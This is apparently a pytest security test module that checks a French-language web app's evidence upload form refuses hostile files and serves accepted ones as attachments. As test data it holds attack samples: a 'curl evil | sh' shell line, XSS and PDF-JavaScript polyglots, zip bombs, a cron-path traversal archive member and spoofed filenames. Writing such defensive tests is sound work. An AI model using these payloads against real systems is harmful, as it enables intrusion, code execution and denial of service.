"""Hostile evidence files sent through the real upload form: every one refused with a
French message next to the field, no row, no file left in storage; what is accepted is
served as an attachment that never renders inline (ASVS V5 file handling)."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable

import pytest
from PIL import Image

from catalogue import db
from catalogue.dossiers.models import Evidence
from catalogue.dossiers.samples import sample_pdf, sample_png
from tests.security.helpers import evidence_count, office, prepare_upload, stored_files


def jpeg() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (32, 32), (200, 30, 30)).save(out, format="JPEG")
    return out.getvalue()


def zip_of(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


MIB = 1024 * 1024

# Each case builds its file when it runs: the zip bombs take a second to compress, which every
# xdist worker would otherwise pay when it collects this module.
HOSTILE: dict[str, Callable[[], tuple[str, bytes]]] = {
    "script renamed .pdf": lambda: ("rapport.pdf", b"<script>alert(document.cookie)</script>"),
    "shell script renamed .pdf": lambda: ("rapport.pdf", b"#!/bin/sh\ncurl evil | sh\n"),
    "windows executable": lambda: ("audit.pdf", b"MZ\x90\x00\x03" + b"\x00" * 200),
    "html page": lambda: ("page.pdf", b"<!DOCTYPE html><html><body onload=alert(1)></body></html>"),
    "svg with script": lambda: (
        "logo.png", b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"),
    "pdf + html polyglot": lambda: (
        "a.pdf", sample_pdf("Audit") + b"<html><script>alert(1)</script></html>"),
    "pdf with javascript": lambda: ("a.pdf", sample_pdf("Audit").replace(
        b"/Type /Catalog", b"/Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >>")),
    "jpeg + zip polyglot": lambda: (
        "photo.jpg", jpeg() + zip_of({"evil.html": b"<script>alert(1)</script>"})),
    "png + html polyglot": lambda: ("a.png", sample_png("x") + b"<html><script>alert(1)</script></html>"),
    "plain zip": lambda: ("archive.docx", zip_of({"readme.txt": b"hello"})),
    "docx zip bomb": lambda: ("bomb.docx", office("docx", {"word/media/big.bin": b"\0" * (110 * MIB)})),
    "xlsx zip bomb": lambda: ("bomb.xlsx", office("xlsx", {"xl/fill.xml": b"A" * (30 * MIB)})),
    "odt zip bomb": lambda: ("bomb.odt", office("odt", {"Pictures/big.bin": b"\0" * (110 * MIB)})),
    "docx path traversal member": lambda: (
        "trav.docx", office("docx", {"../../etc/cron.d/x": b"* * * * * x"})),
    "docx with macros": lambda: ("macro.docx", office("docx", {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})),
    "empty file": lambda: ("vide.pdf", b""),
}


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_hostile_file_is_refused_and_leaves_nothing(case, client, login, make_dossier, monkeypatch, app):
    monkeypatch.setitem(app.config, "WTF_CSRF_ENABLED", False)
    upload = prepare_upload(make_dossier, login, client)
    rows, files = evidence_count(upload.organisation_id), stored_files()
    filename, data = HOSTILE[case]()
    response = upload.post(filename, data)
    body = response.get_data(as_text=True)
    assert response.status_code == 422, case
    assert 'class="invalid-feedback' in body or "is-invalid" in body
    assert "Le fichier" in body or "fichier" in body.lower()
    assert evidence_count(upload.organisation_id) == rows
    assert stored_files() == files


def test_oversize_upload_is_refused_in_french_before_reading_it(client, login, make_dossier,
                                                                monkeypatch, app):
    monkeypatch.setitem(app.config, "WTF_CSRF_ENABLED", False)
    upload = prepare_upload(make_dossier, login, client)
    rows, files = evidence_count(upload.organisation_id), stored_files()
    # A raw body (the test client would spool a form this big to a temporary file).
    boundary = "frontiere"
    body = (f"--{boundary}\r\nContent-Disposition: form-data; name=\"file-{upload.code}\"; "
            f"filename=\"gros.pdf\"\r\nContent-Type: application/pdf\r\n\r\n").encode()
    body += sample_pdf("Gros") + b"%" * (app.config["MAX_CONTENT_LENGTH"] + 1024)
    body += f"\r\n--{boundary}--\r\n".encode()
    response = upload.client.post(upload.url, data=body,
                                  content_type=f"multipart/form-data; boundary={boundary}")
    assert response.status_code == 413
    assert "dépasse la taille maximale" in response.get_data(as_text=True)
    assert evidence_count(upload.organisation_id) == rows and stored_files() == files


@pytest.mark.parametrize(("name", "stored"), [
    ("../../../etc/passwd.pdf", "passwd.pdf"),
    ("..\\..\\windows\\system32\\audit.pdf", None),
    ("facture\u202efdp.exe", "facturefdp.pdf"),   # right-to-left override: "facture" + "exe.pdf"
    ("rapport\x00.exe.pdf", "rapport.exe.pdf"),
    ("<script>alert(1)</script>.pdf", None),
    ("/absolute/path/audit.pdf", "audit.pdf"),
])
def test_names_are_neutralised_and_files_served_as_attachments(name, stored, client, login,
                                                               make_dossier, monkeypatch, app):
    monkeypatch.setitem(app.config, "WTF_CSRF_ENABLED", False)
    upload = prepare_upload(make_dossier, login, client)
    data = sample_pdf("Pièce jointe")
    response = upload.post(name, data)
    assert response.status_code in (302, 303), response.get_data(as_text=True)[:500]
    evidence = db.session.scalar(
        __import__("sqlalchemy").select(Evidence).where(Evidence.organisation_id == upload.organisation_id)
        .order_by(Evidence.id.desc()).limit(1))
    filename, evidence_id = evidence.filename, evidence.id
    db.session.rollback()
    assert "/" not in filename and "\\" not in filename and "\x00" not in filename
    assert "\u202e" not in filename and ".." not in filename
    assert filename.endswith(".pdf")
    if stored:
        assert filename == stored
    served = client.get(f"/pieces/{evidence_id}")
    assert served.status_code == 200 and served.data == data
    disposition = served.headers["Content-Disposition"]
    assert disposition.startswith("attachment;")
    assert "\r" not in disposition and "\n" not in disposition and '"' not in disposition.split('"')[1]
    assert served.headers["X-Content-Type-Options"] == "nosniff"
    assert served.mimetype == "application/pdf"
    assert "sandbox" in served.headers["Content-Security-Policy"]
    assert served.headers["Cache-Control"] == "no-store"


def test_served_evidence_never_uses_a_renderable_type(client, login, make_dossier, monkeypatch, app):
    """Whatever was accepted is served with the type detected at upload, from the allow-list."""
    monkeypatch.setitem(app.config, "WTF_CSRF_ENABLED", False)
    upload = prepare_upload(make_dossier, login, client)
    for name, data in (("capture.png", sample_png("Écran")), ("photo.jpeg", jpeg()),
                       ("grille.xlsx", office("xlsx")), ("note.odt", office("odt"))):
        response = upload.post(name, data)
        assert response.status_code in (302, 303), name
    types = set(db.session.scalars(__import__("sqlalchemy").select(Evidence.content_type)
                                   .where(Evidence.organisation_id == upload.organisation_id)))
    db.session.rollback()
    assert types <= {"application/pdf", "image/png", "image/jpeg",
                     "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
                     "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
                     "application/vnd.oasis.opendocument.text"}
    assert not {"text/html", "image/svg+xml", "application/xhtml+xml", "text/xml"} & types
